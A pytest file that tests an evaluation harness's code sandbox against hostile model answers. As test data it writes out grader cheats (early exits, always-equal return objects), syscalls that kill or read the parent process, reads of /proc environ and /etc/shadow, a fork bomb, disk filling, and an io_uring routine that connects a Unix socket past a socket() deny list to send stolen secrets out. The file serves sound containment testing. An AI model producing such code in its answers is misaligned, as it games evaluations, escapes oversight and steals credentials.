"""The code sandbox as a boundary: attacks through the project's own path, each with its verdict and the
proof that it left no trace (no file written, the harness alive, no secret in any output).

Every program is an answer to the same problem (`add`) followed by its tests, as the code tasks build them.
Upstream's verdict (`code_eval` / human-eval's `check_correctness`, which `exec` the program and count any
BaseException, SystemExit included, as a failure) is "failed" for each cheat below; a blocked attack with
a wrong answer fails on the answer.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import socket
import subprocess
import sys
import uuid
from pathlib import Path
from types import SimpleNamespace

import evaluate
import pytest
from conftest import existing_store, run_lm_eval_here, write_checkpoint

from spot_eval.data import datasets
from spot_eval.execution import CODE_EXEC_METRIC

SECRET = f"spot-secret-{uuid.uuid4().hex}"
TESTS = "\n\ndef check(candidate):\n    assert candidate(1, 2) == 3\n\ncheck(add)\n"
RIGHT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b\n"
PROJECT = Path(__file__).resolve().parent.parent
# The parent's pid as the program sees it; the program tries to act on it with each syscall.
SYSCALL = (
    "import ctypes, os, signal, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
    # a siginfo_t for SIGKILL with si_code SI_QUEUE (-1), the code a process may send another one
    "info = ctypes.create_string_buffer(struct.pack('iii', signal.SIGKILL, 0, -1), 128)\n"
)
TRACE = PROJECT / f"sandbox-trace-{uuid.uuid4().hex}"
SECRET_FILE = Path(pwd.getpwuid(os.getuid()).pw_dir) / f"spot-secret-{uuid.uuid4().hex}"  # what the harness's user may read
TMP_TRACE = Path("/tmp") / f"sandbox-trace-{uuid.uuid4().hex}"
HOME_TRACE = Path(pwd.getpwuid(os.getuid()).pw_dir) / f"sandbox-trace-{uuid.uuid4().hex}"


def attempts(*lines: str) -> str:
    """Attack lines whose failure (an OSError and the like) is swallowed, so that only the answer decides."""
    return "".join(f"try:\n    {line}\nexcept Exception:\n    pass\n" for line in lines)


# (id, the program's code before its tests, the verdict)
CASES = [
    ("control: right answer", RIGHT, "passed"),
    ("control: wrong answer", WRONG, "failed"),
    ("sys.exit(0) at the top", "import sys\nsys.exit(0)\n" + WRONG, "failed"),
    ("sys.exit(0) before a right answer's tests", RIGHT + "import sys\nsys.exit(0)\n", "failed"),
    ("os._exit(0) at the top", "import os\nos._exit(0)\n" + WRONG, "failed"),
    ("atexit os._exit(0) and a wrong answer", "import atexit, os\natexit.register(lambda: os._exit(0))\n" + WRONG, "failed"),
    ("sys.exit and os._exit monkeypatched", "import os, sys\nsys.exit = os._exit = lambda *a: None\n" + WRONG, "failed"),
    ("__del__ exits 0 after the failure", "import os\nclass Q:\n    def __del__(self):\n        os._exit(0)\nq = Q()\n" + WRONG, "failed"),
    ("excepthook swallows the failure", "import sys\nsys.excepthook = lambda *a: None\n" + WRONG, "failed"),
    ("assert builtins monkeypatched", "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n" + WRONG, "failed"),
    ("prints a fake nonce", "import sys\nprint('0' * 32)\nprint('0' * 32, file=sys.stderr)\n" + WRONG, "failed"),
    ("pidfd_open + pidfd_send_signal(SIGKILL) to the parent",
     SYSCALL + attempts("fd = libc.syscall(434, os.getppid(), 0)", "libc.syscall(424, fd, signal.SIGKILL, None, 0)") + WRONG, "failed"),
    ("rt_sigqueueinfo(SIGKILL) to the parent",
     SYSCALL + attempts("libc.syscall(129, os.getppid(), signal.SIGKILL, info)") + WRONG, "failed"),
    ("rt_tgsigqueueinfo, tgkill, tkill to the parent",
     SYSCALL + attempts("libc.syscall(297, os.getppid(), os.getppid(), signal.SIGKILL, info)",
                        "libc.syscall(234, os.getppid(), os.getppid(), signal.SIGKILL)",
                        "libc.syscall(200, os.getppid(), signal.SIGKILL)") + WRONG, "failed"),
    ("kill(getppid(), SIGKILL)", "import os, signal\n" + attempts("os.kill(os.getppid(), signal.SIGKILL)") + WRONG, "failed"),
    ("process_vm_readv of the parent",
     SYSCALL + attempts("buf = (ctypes.c_char * 64)(); libc.syscall(310, os.getppid(), buf, 1, buf, 1, 0)") + WRONG, "failed"),
    ("reads the parent's /proc environ", "import os, sys\n" + attempts(
        "print(open(f'/proc/{os.getppid()}/environ').read(), file=sys.stderr)",
        "print(open(f'/proc/{os.getppid()}/mem', 'rb').read(64), file=sys.stderr)") + WRONG, "failed"),
    ("reads its own /proc environ", "import sys\n" + attempts("print(open('/proc/self/environ').read(), file=sys.stderr)") + WRONG, "failed"),
    ("writes /tmp", attempts(f"open({str(TMP_TRACE)!r}, 'w').write('x')") + WRONG, "failed"),
    ("writes the real home (found through pwd)", "import os, pwd\n" + attempts(
        f"open(os.path.join(pwd.getpwuid({os.getuid()}).pw_dir, {HOME_TRACE.name!r}), 'w').write('x')") + WRONG, "failed"),
    ("writes the project tree", attempts(f"open({str(TRACE)!r}, 'w').write('x')") + WRONG, "failed"),
    ("fork bomb", "import os\nwhile True:\n    os.fork()\n" + RIGHT, "failed"),
    ("busy loop", "while True:\n    pass\n" + RIGHT, "timeout"),
    ("SIGXCPU ignored, then a busy loop", "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass\n", "timeout"),
    ("20 GB allocation", "data = bytearray(20 * 10**9)\n" + RIGHT, "failed"),
    ("socket", "import socket\nsocket.create_connection(('127.0.0.1', 9))\n" + RIGHT, "failed"),
    ("new namespaces and mounts", SYSCALL + "assert libc.unshare(0x10000000) != 0 and libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) != 0\n"
     + RIGHT, "passed"),
    # The answer is right only where the attack worked, so a contained attack fails on the answer.
    ("always-equal str subclass", "class Eq(str):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
     "def add(a, b):\n    return Eq('wrong')\n", "failed"),
    ("always-equal object", "class Any:\n    __eq__ = lambda s, o: True\n    __bool__ = lambda s: True\n"
     "def add(a, b):\n    return Any()\n", "failed"),
    ("always-equal float subclass with arithmetic", "class F(float):\n    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\n"
     "def add(a, b):\n    return F(-1.0)\n", "failed"),
    ("builtins rebound for the tests", "import builtins\nbuiltins.abs = builtins.all = lambda *a: True\n" + WRONG, "failed"),
    ("reads a secret file of the harness's user", "import sys\nknown = []\n" + attempts(
        f"known.append(open({str(SECRET_FILE)!r}).read())", "print(known[-1], file=sys.stderr)")
     + "def add(a, b):\n    return a + b if known else a - b\n", "failed"),
    ("reads /etc/shadow and lists the home directories", "import os, sys\nknown = []\n" + attempts(
        "known.append(open('/etc/shadow').read())", "known.append(os.listdir('/root'))", "known.append(os.listdir('/home'))")
     + "def add(a, b):\n    return a + b if known else a - b\n", "failed"),
    ("200 files of 1 MiB", "written = []\n" + attempts(
        "for i in range(200):\n        open(f'f{i}', 'wb').write(b'x' * (1 << 20))\n        written.append(i)")
     + "def add(a, b):\n    return a + b if len(written) == 200 else a - b\n", "failed"),
]


# The harness: a process with the secret in its initial environment (what /proc/<pid>/environ shows), which
# runs one program in the sandbox and prints the outcome. Killing it, or reading its environment, is the attack.
HARNESS = f"""
import json, sys
from spot_eval.execution.sandbox import Limits, run
outcome = run(sys.stdin.read(), Limits(timeout_s=3.0, memory_bytes=512 << 20), tests={TESTS!r})
print(json.dumps([outcome.status, outcome.stderr]))
"""


@pytest.fixture(scope="module", autouse=True)
def secret_file():
    SECRET_FILE.write_text(SECRET)
    yield
    SECRET_FILE.unlink()


@pytest.mark.slow
@pytest.mark.parametrize(("code", "verdict"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_each_attack_gets_upstreams_verdict_and_leaves_no_trace(code, verdict):
    harness = subprocess.run([sys.executable, "-c", HARNESS], input=code, capture_output=True, text=True,
                             env={**os.environ, "SPOT_SANDBOX_SECRET": SECRET}, timeout=60)
    assert harness.returncode == 0, f"the harness died ({harness.returncode}): {harness.stderr[-600:]}"
    status, stderr = json.loads(harness.stdout)
    assert status == verdict, stderr[-600:]
    assert SECRET not in harness.stdout + harness.stderr
    for trace in (TRACE, TMP_TRACE, HOME_TRACE):
        assert not trace.exists(), f"the program wrote {trace}"


def test_through_the_code_metric_the_cheats_score_zero_and_the_evaluation_goes_on():
    """The code_exec metric: the sandboxed pass@k the code tasks score with (tasks/execution.py), for evaluate's users."""
    metric = evaluate.load(str(CODE_EXEC_METRIC))
    cheats = [code for name, code, verdict in CASES if verdict != "passed" and "loop" not in name]
    scores = metric.compute(predictions=[[code] for code in cheats] + [[RIGHT]], references=[TESTS] * (len(cheats) + 1))
    assert [o.status for [o] in scores["outcomes"]][-1] == "passed"
    assert not any(o.passed for [o] in scores["outcomes"][:-1])
    assert scores["pass@1"] == pytest.approx(1 / (len(cheats) + 1))


# An AF_UNIX socket made and connected through io_uring (IORING_OP_SOCKET = 45, IORING_OP_CONNECT = 16), which
# never calls socket(): a deny list of system calls that names socket() lets it through.
URING_CONNECT = """
import ctypes, mmap, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def uring_connect(path):
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup (the same number on x86_64 and aarch64)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq_entries, cq_entries = struct.unpack_from("II", params, 0)
    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
    cq_head, _, cq_mask, _, _, cqes = struct.unpack_from("6I", params, 80)
    shared = mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE
    rings = mmap.mmap(ring, max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries), *shared, offset=0)
    sqes = mmap.mmap(ring, 64 * sq_entries, *shared, offset=0x10000000)

    def submit(opcode, fd, addr, length, off):
        tail = struct.unpack_from("I", rings, sq_tail)[0]
        index = tail & struct.unpack_from("I", rings, sq_mask)[0]
        sqes[64 * index: 64 * index + 64] = struct.pack("BBHiQQII", opcode, 0, 0, fd, off, addr, length, 0).ljust(64, b"\\0")
        struct.pack_into("I", rings, sq_array + 4 * index, index)
        struct.pack_into("I", rings, sq_tail, tail + 1)
        if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:  # io_uring_enter: submit one, wait for it
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = struct.unpack_from("I", rings, cq_head)[0]
        result = struct.unpack_from("QiI", rings, cqes + 16 * (head & struct.unpack_from("I", rings, cq_mask)[0]))[1]
        struct.pack_into("I", rings, cq_head, head + 1)
        if result < 0:
            raise OSError(-result, f"io_uring opcode {opcode}")
        return result

    sock = submit(45, 1, 0, 0, 1)  # AF_UNIX, SOCK_STREAM
    address = ctypes.create_string_buffer(struct.pack("H", 1) + path + b"\\0")
    submit(16, sock, ctypes.addressof(address), 0, len(address.raw))
    return sock
"""


@pytest.mark.slow
def test_io_uring_cannot_reach_a_unix_socket_outside(tmp_path):
    """The program connects to a unix socket that a process outside listens on, through io_uring, and sends
    what it read. Run outside the sandbox (the control) the same code gets through on this kernel; inside, the
    listener receives nothing and the answer decides."""
    path = tmp_path / "listener.sock"
    exfiltrate = (URING_CONNECT + "connected = []\n"
                  + attempts(f"os.write(uring_connect({str(path).encode()!r}), b'exfiltrated'); connected.append(1)")
                  + "def add(a, b):\n    return a + b if connected else a - b\n")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen(4)
        listener.settimeout(0.5)
        control = subprocess.run([sys.executable, "-c", exfiltrate + TESTS], capture_output=True, text=True, timeout=60)
        if control.returncode == 0:  # io_uring is enabled here: the attack is real, and the listener heard it
            connection, _ = listener.accept()
            with connection:
                assert connection.recv(64) == b"exfiltrated"
        harness = subprocess.run([sys.executable, "-c", HARNESS], input=exfiltrate, capture_output=True, text=True, timeout=60)
        assert harness.returncode == 0, harness.stderr[-600:]
        assert json.loads(harness.stdout)[0] == "failed"
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody connected from inside


def _lm_eval(capsys, tmp_path: Path, run: str) -> SimpleNamespace:
    """`lm_eval --model spot --tasks spot_mbpp`, the secret in its environment (this process's: the sandbox's
    children must not see it)."""
    args = f"pretrained={tmp_path / 'ckpt'},methods=,budgets=,device=cpu,output_dir={tmp_path / run}"
    return run_lm_eval_here(
        capsys, "--model", "spot", "--model_args", args, "--tasks", "spot_mbpp", "--include_path", str(PROJECT / "tasks"),
        "--limit", "3", "--use_cache", str(tmp_path / "cache"), "--confirm_run_unsafe_code", "--log_samples",
        "--output_path", str(tmp_path / run / "lm_eval"), "--gen_kwargs", "max_gen_toks=16",
        cwd=tmp_path, env={"SPOT_SANDBOX_SECRET": SECRET},
    )


@pytest.mark.slow
def test_hostile_answers_through_lm_eval_score_zero_and_the_run_completes(tmp_path, capsys):
    """The `lm_eval --model spot --tasks spot_mbpp` path. A first run fills lm-eval's cache; the cached answers
    are then replaced (as a model could have written them): an always-equal object, a program that reads a
    secret file and /etc/shadow, fills the disk and sends what it read to a unix socket outside through io_uring,
    and the reference solution. The rerun scores the three: 1/3, the harness alive, nothing leaked."""
    from lm_eval.api.model import hash_args
    from sqlitedict import SqliteDict

    write_checkpoint(tmp_path / "ckpt")
    existing_store(tmp_path)  # the run's default store, ./mlflow.db
    first = _lm_eval(capsys, tmp_path, "first")
    assert first.returncode == 0, first.stderr[-3000:]
    [log] = (tmp_path / "first" / "lm_eval").rglob("samples_spot_mbpp_*.jsonl")
    samples = [json.loads(line) for line in log.open()]
    mbpp = {d["task_id"]: d for d in datasets.mbpp_split("test")}
    path = tmp_path / "listener.sock"
    steal = (URING_CONNECT + "import sys\nloot = []\n" + attempts(
        f"loot.append(open({str(SECRET_FILE)!r}).read())", "loot.append(open('/etc/shadow').read())",
        "print(loot, file=sys.stderr)", f"os.write(uring_connect({str(path).encode()!r}), repr(loot).encode())",
        "for i in range(200):\n        open(f'f{i}', 'wb').write(b'x' * (1 << 20))"))
    answers = {}
    for sample, kind in zip(sorted(samples, key=lambda s: s["doc_id"]), ("equal", "steal", "right"), strict=True):
        doc = mbpp[sample["doc"]["task_id"]]
        name = re.match(r"assert\s+(\w+)\(", doc["test_list"][0]).group(1)
        code = {"equal": f"class Eq(str):\n    __eq__ = lambda s, o: True\ndef {name}(*a, **k):\n    return Eq('x')\n",
                "steal": steal + f"def {name}(*a, **k):\n    return None\n", "right": doc["code"]}[kind]
        arguments = sample["arguments"]["gen_args_0"]
        answers[hash_args("generate_until", [arguments["arg_0"], arguments["arg_1"]])] = f"```python\n{code}\n```"
    with SqliteDict(str(tmp_path / "cache_rank0.db"), autocommit=True) as cache:
        assert set(answers) <= set(cache.keys())
        for key, answer in answers.items():
            cache[key] = answer
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen(4)
        listener.settimeout(0.5)
        again = _lm_eval(capsys, tmp_path, "again")
        assert again.returncode == 0, again.stderr[-3000:]
        with pytest.raises(TimeoutError):
            listener.accept()
    [results] = (tmp_path / "again" / "lm_eval").rglob("results_*.json")
    assert json.loads(results.read_text())["results"]["spot_mbpp"]["pass@1,extract_code"] == pytest.approx(1 / 3)
    assert SECRET not in again.stdout + again.stderr
    outcomes = (tmp_path / "again" / "outcomes.jsonl")
    assert not outcomes.exists() or SECRET not in outcomes.read_text()
    for trace in (TRACE, TMP_TRACE, HOME_TRACE):
        assert not trace.exists()
